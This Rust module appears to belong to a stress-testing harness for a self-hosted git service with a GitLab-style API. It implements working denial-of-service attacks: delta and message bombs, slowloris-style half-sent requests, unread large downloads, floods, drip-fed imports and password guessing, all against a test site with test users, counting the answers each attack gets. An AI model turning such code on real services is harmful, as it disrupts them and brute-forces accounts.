//! The attacks. Each goes on until it is stopped and counts the answers that it gets.

use std::pin::Pin;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;
use tokio::sync::watch;
use tokio::task::JoinSet;

use super::site::{Site, status};

/// One attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// Its name in the table.
    pub name: &'static str,
    pub(super) play: fn(Arc<Site>, Stop) -> Playing,
}

type Stop = watch::Receiver<bool>;
type Playing = Pin<Box<dyn Future<Output = Result<Answers>>>>;

/// Answers by class of their status.
#[derive(Debug, Clone, Copy, Default)]
pub struct Answers {
    /// 2xx and 3xx.
    pub fine: u64,
    /// 4xx.
    pub refused: u64,
    /// 5xx.
    pub busy: u64,
    /// No answer.
    pub broken: u64,
}

impl Answers {
    pub(super) fn add(&mut self, status: Result<u16>) {
        match status {
            Ok(..400) => self.fine += 1,
            Ok(400..500) => self.refused += 1,
            Ok(500..) => self.busy += 1,
            Err(_) => self.broken += 1,
        }
    }
}

pub(super) const ALL: [Attack; 14] = [
    Attack { name: "C1 push with endless commands", play: |site, stop| Box::pin(endless_commands(site, stop)) },
    Attack { name: "C2a commit message of 800 MB", play: |site, stop| Box::pin(long_message(site, stop)) },
    Attack { name: "C2b delta of gigabytes", play: |site, stop| Box::pin(delta_bomb(site, stop)) },
    Attack { name: "H1 half-sent fetches", play: |site, stop| Box::pin(half_sent(site, stop, HalfSent::Fetch)) },
    Attack { name: "H1 half-sent pushes", play: |site, stop| Box::pin(half_sent(site, stop, HalfSent::Push)) },
    Attack { name: "H1 slow readers of archives", play: |site, stop| Box::pin(slow_archives(site, stop)) },
    Attack { name: "H2 commits of 59,049 files", play: |site, stop| Box::pin(wide_commits(site, stop, Goes::No)) },
    Attack { name: "H2 the same, closed at once", play: |site, stop| Box::pin(wide_commits(site, stop, Goes::Yes)) },
    Attack { name: "H3 large files never read", play: |site, stop| Box::pin(never_read(site, stop)) },
    Attack { name: "H4 slow imports", play: |site, stop| Box::pin(slow_imports(site, stop)) },
    Attack { name: "H5 flood from one address", play: |site, stop| Box::pin(flood(site, stop)) },
    Attack { name: "H6 wrong passwords", play: |site, stop| Box::pin(wrong_passwords(site, stop)) },
    Attack { name: "M1 blame of 200,000 lines", play: |site, stop| Box::pin(blame(site, stop)) },
    Attack { name: "M4 half-sent bodies", play: |site, stop| Box::pin(half_sent_bodies(site, stop)) },
];

/// The address of an attacker by number.
fn address(number: usize) -> String {
    format!("203.0.113.{}", number % 250 + 1)
}

/// Sends the message of `message` again and again, on so many connections, until it is stopped.
async fn repeated(
    site: Arc<Site>,
    mut stop: Stop,
    connections: usize,
    message: impl Fn(usize) -> (String, Arc<[u8]>) + Clone + 'static,
) -> Result<Answers> {
    let mut tasks = JoinSet::new();
    for number in 0..connections {
        let (site, message, stop) = (Arc::clone(&site), message.clone(), stop.clone());
        tasks.spawn_local(async move {
            let mut answers = Answers::default();
            while !*stop.borrow() {
                let (head, body) = message(number);
                answers.add(site.send(head.as_bytes(), &body).await);
            }
            answers
        });
    }
    let mut all = Answers::default();
    let _ = stop.wait_for(|stopped| *stopped).await;
    // Requests that are under way are dropped, as by a client that leaves.
    let rest = async {
        while let Some(answers) = tasks.join_next().await {
            let Answers { fine, refused, busy, broken } = answers?;
            all.fine += fine;
            all.refused += refused;
            all.busy += busy;
            all.broken += broken;
        }
        Ok(())
    };
    match tokio::time::timeout(Duration::from_secs(10), rest).await {
        Ok(outcome) => outcome.map(|()| all),
        Err(_late) => Ok(all),
    }
}

fn push_head(site: &Site, attacker: usize, length: usize, more: &str) -> String {
    let path = if attacker == 0 { "/mallory/sink.git" } else { "/trudy/sink.git" };
    let token = site.mallory.get(attacker).map(String::as_str);
    let more = format!("Content-Type: application/x-git-receive-pack-request\r\nContent-Length: {length}\r\n{more}");
    Site::head("POST", &format!("{path}/git-receive-pack"), token, &address(attacker), &more)
}

async fn pushes(site: Arc<Site>, stop: Stop, body: Arc<[u8]>, more: &'static str) -> Result<Answers> {
    let pushing = Arc::clone(&site);
    repeated(site, stop, 4, move |number| (push_head(&pushing, number % 2, body.len(), more), Arc::clone(&body))).await
}

async fn endless_commands(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let body = Arc::clone(&site.endless_commands);
    pushes(site, stop, body, "Content-Encoding: gzip\r\n").await
}

async fn long_message(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let body = Arc::clone(&site.long_message);
    pushes(site, stop, body, "").await
}

async fn delta_bomb(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let body = Arc::clone(&site.delta_bomb);
    pushes(site, stop, body, "").await
}

#[derive(Clone, Copy)]
enum HalfSent {
    Fetch,
    Push,
}

/// Requests that announce a body and send a few bytes of it, one more each second.
async fn half_sent(site: Arc<Site>, mut stop: Stop, what: HalfSent) -> Result<Answers> {
    let mut streams = Vec::new();
    for number in 0..16 {
        let head = match what {
            HalfSent::Fetch => {
                let more = "Content-Type: application/x-git-upload-pack-request\r\nContent-Length: 1000000\r\n";
                Site::head("POST", "/mallory/public.git/git-upload-pack", None, &address(number / 2), more)
            }
            HalfSent::Push => push_head(&site, number % 2, 1_000_000, ""),
        };
        let mut stream = site.connect().await?;
        stream.write_all(head.as_bytes()).await?;
        streams.push(stream);
    }
    let mut interval = tokio::time::interval(Duration::from_secs(1));
    while !*stop.borrow() {
        for stream in &mut streams {
            let _ = stream.write_all(b"0").await;
        }
        tokio::select! {
            _ = interval.tick() => {}
            _ = stop.changed() => {}
        }
    }
    Ok(Answers::default())
}

/// Requests whose answers are not read, on so many connections.
async fn unread(site: Arc<Site>, mut stop: Stop, connections: usize, path: String) -> Result<Answers> {
    let mut streams = Vec::new();
    for number in 0..connections {
        let mut stream = site.connect().await?;
        let head = Site::head("GET", &path, None, &address(number / 4), "");
        stream.write_all(head.as_bytes()).await?;
        streams.push(stream);
    }
    let _ = stop.wait_for(|stopped| *stopped).await;
    let mut answers = Answers::default();
    for mut stream in streams {
        let mut begin = [0; 12];
        let read = tokio::time::timeout(Duration::from_millis(10), stream.read_exact(&mut begin)).await;
        answers.add(if matches!(read, Ok(Ok(_))) { status(&begin) } else { Err(anyhow::anyhow!("no answer")) });
    }
    Ok(answers)
}

async fn slow_archives(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let path = format!("/api/v4/projects/{}/repository/archive.tar?sha=main", site.public);
    unread(site, stop, 32, path).await
}

async fn never_read(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let path = format!("/api/v4/projects/{}/repository/files/large.bin/raw?ref=main", site.public);
    unread(site, stop, 100, path).await
}

#[derive(Clone, Copy)]
enum Goes {
    Yes,
    No,
}

/// Statistics and differences of a commit with very many files.
async fn wide_commits(site: Arc<Site>, stop: Stop, goes: Goes) -> Result<Answers> {
    let path = format!("/api/v4/projects/{}/repository/commits/{}", site.public, site.wide);
    match goes {
        Goes::No => {
            repeated(site, stop, 16, move |number| {
                (Site::head("GET", &path, None, &address(number), ""), Arc::from([]))
            })
            .await
        }
        Goes::Yes => {
            let mut number = 0;
            let mut answers = Answers::default();
            while !*stop.borrow() {
                let mut stream = site.connect().await?;
                stream.write_all(Site::head("GET", &path, None, &address(number), "").as_bytes()).await?;
                drop(stream);
                number += 1;
                answers.broken += 1;
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            Ok(answers)
        }
    }
}

/// Imports from a server that sends a byte a second.
async fn slow_imports(site: Arc<Site>, mut stop: Stop) -> Result<Answers> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    let dripping = tokio::task::spawn_local(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::task::spawn_local(async move {
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n").await;
                while stream.write_all(b"0").await.is_ok() {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            });
        }
    });
    let mut answers = Answers::default();
    for number in 0..6 {
        let body = format!("{{\"name\":\"import{number}\",\"import_url\":\"http://127.0.0.1:{port}/x.git\"}}");
        let more = format!("Content-Type: application/json\r\nContent-Length: {}\r\n", body.len());
        let head = Site::head("POST", "/api/v4/projects", site.mallory.first().map(String::as_str), &address(0), &more);
        answers.add(site.send(head.as_bytes(), body.as_bytes()).await);
    }
    let forked = site.fork_of_own().await;
    let _ = stop.wait_for(|stopped| *stopped).await;
    dripping.abort();
    forked.map(|()| answers)
}

async fn flood(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    repeated(site, stop, 32, |_number| (Site::head("GET", "/api/v4/projects", None, &address(0), ""), Arc::from([])))
        .await
}

async fn wrong_passwords(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    repeated(site, stop, 32, |number| {
        let path = "/vera/own.git/info/refs?service=git-upload-pack";
        (Site::head("GET", path, Some(&format!("wrong{number}")), &address(number), ""), Arc::from([]))
    })
    .await
}

async fn blame(site: Arc<Site>, stop: Stop) -> Result<Answers> {
    let path = format!("/api/v4/projects/{}/repository/files/blame.txt/blame?ref=main", site.public);
    repeated(site, stop, 12, move |number| (Site::head("GET", &path, None, &address(number), ""), Arc::from([]))).await
}

/// Bodies of a megabyte that are never finished.
async fn half_sent_bodies(site: Arc<Site>, mut stop: Stop) -> Result<Answers> {
    let body = vec![b' '; 999_999];
    let mut streams = Vec::new();
    for number in 0..200 {
        let more = "Content-Type: application/json\r\nContent-Length: 1000000\r\n";
        let head = Site::head("POST", "/api/v4/markdown", None, &address(number), more);
        let mut stream = site.connect().await?;
        stream.write_all(head.as_bytes()).await?;
        let sent = tokio::time::timeout(Duration::from_millis(50), stream.write_all(&body)).await;
        streams.push((stream, sent.is_ok()));
    }
    let _ = stop.wait_for(|stopped| *stopped).await;
    Ok(Answers { broken: 200, ..Answers::default() })
}
